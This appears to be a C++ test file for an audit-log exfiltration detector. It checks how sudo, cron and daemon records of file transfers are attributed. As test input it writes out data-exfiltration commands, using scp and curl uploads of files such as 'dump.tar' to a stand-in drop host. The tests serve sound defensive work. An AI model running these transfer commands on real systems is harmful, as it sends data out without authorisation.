#include "host_with_cron.hpp"

/// sudo's own record (USER_CMD) on hosts without a rule, and beside the execve.
namespace auexfil::test {
namespace {

void sudo_says(CronHost& log, int pid, std::string_view command, std::string_view terminal,
               std::uint32_t auid, std::uint32_t ses) {
  std::string hex;
  for (const char c : command) {
    hex += fmt::format("{:02X}", static_cast<unsigned char>(c));
  }
  log.pass(10);
  log.record("USER_CMD", log.next_stamp(),
             fmt::format("pid={} uid=1000 auid={} ses={} subj=unconfined msg='cwd=\"/home/u\" "
                         "cmd={} exe=\"/usr/bin/sudo\" terminal={} res=success'",
                         pid, auid, ses, hex, terminal));
}

/// Nothing but what needs no rule: LOGIN and user-space records, without their SYSCALL.
void login(CronHost& log, int pid, std::uint32_t auid, std::uint32_t ses, std::string_view exe,
           std::string_view terminal) {
  log.record("LOGIN", log.next_stamp(),
             fmt::format("pid={} uid=0 subj=unconfined old-auid=4294967295 auid={} tty=(none) "
                         "old-ses=4294967295 ses={} res=1",
                         pid, auid, ses));
  log.record("USER_START", log.next_stamp(),
             fmt::format("pid={} uid=0 auid={} ses={} subj=unconfined msg='op=PAM:session_open "
                         "acct=\"u\" exe=\"{}\" hostname=? addr=? terminal={} res=success'",
                         pid, auid, ses, exe, terminal));
  if (terminal == "ssh") {
    log.record("USER_LOGIN", log.next_stamp(),
               fmt::format("pid={} uid=0 auid={} ses={} subj=unconfined msg='op=login id={} "
                           "exe=\"{}\" hostname=192.0.2.7 addr=192.0.2.7 terminal=/dev/pts/0 "
                           "res=success'",
                           pid, auid, ses, auid, exe));
  }
}

CronHost no_rules() {
  return CronHost("", [](const Called&) { return false; });
}

}  // namespace

TEST_CASE("sudo: a transfer tool that a person ran with it, on a host without a rule") {
  CronHost log = no_rules();
  login(log, 500, 1000, 5, "/usr/sbin/sshd", "ssh");
  const auto [command, tool] = GENERATE(values<std::pair<const char*, const char*>>(
      {{"/usr/bin/scp dump.tar drop@203.0.113.9:up/", "scp"},
       {"/bin/bash -c scp dump.tar drop@203.0.113.9:up/", "scp"},
       {"/usr/bin/nice -n 10 curl -T f https://203.0.113.9/", "curl"}}));
  CAPTURE(command);
  sudo_says(log, 600, command, "pts/0", 1000, 5);
  const facts::Fact fact = one(log);
  CHECK(fact.tool == tool);
  CHECK(fact.automation == transfer::Verdict::attended);
  CHECK(fact.direction == transfer::Direction::out);
  CHECK_FALSE(fact.bytes_out);
  CHECK(fact.auid == 1000U);
  CHECK(fact.cwd == "/home/u");
  REQUIRE(destination(fact, kDrop) != nullptr);
  CHECK(destination(fact, kDrop)->source == transfer::Source::argv);
  CHECK(has_note(fact, "USER_CMD"));
}

TEST_CASE("sudo: a job of cron's with it is nobody's") {
  CronHost log = no_rules();
  login(log, 500, 0, 5, "/usr/sbin/cron", "cron");
  sudo_says(log, 600, "/usr/bin/scp dump.tar drop@203.0.113.9:up/", "?", 0, 5);
  CHECK(one(log).automation == transfer::Verdict::unattended);
}

TEST_CASE("sudo: where the execve is in the log too, it is one transfer") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int sudo = log.run(shell, 600, "/usr/bin/sudo", {"sudo", "scp", "f", "drop@203.0.113.9:"});
  sudo_says(log, sudo, "/usr/bin/scp f drop@203.0.113.9:", "pts/0", 1000, 5);
  const int scp = log.run(sudo, 601, "/usr/bin/scp", {"scp", "f", "drop@203.0.113.9:"});
  const int ssh = log.ssh_child(scp, CronHost::sftp_argv("203.0.113.9"), kDrop);
  log.upload(ssh, 3, 100'000);
  log.done(ssh);
  log.exit(scp);
  const facts::Fact fact = one(log);
  CHECK(fact.bytes_out == 100'000U);
  CHECK_FALSE(has_note(fact, "USER_CMD"));
}

TEST_CASE("sudo: what it has a daemon run is that daemon's") {
  CronHost log = no_rules();
  login(log, 500, 1000, 5, "/usr/sbin/sshd", "ssh");
  sudo_says(log, 600, "/usr/bin/systemd-run curl -T f https://203.0.113.9/", "pts/0", 1000, 5);
  CHECK(tell(log).empty());
}

TEST_CASE("sudo: another program's record of it is no command") {
  CronHost log;
  const int evil = log.daemon(900, "/opt/evil");
  sudo_says(log, evil, "/usr/bin/scp f drop@203.0.113.9:", "pts/0", 1000, 5);
  CHECK(tell(log).empty());
}

}  // namespace auexfil::test
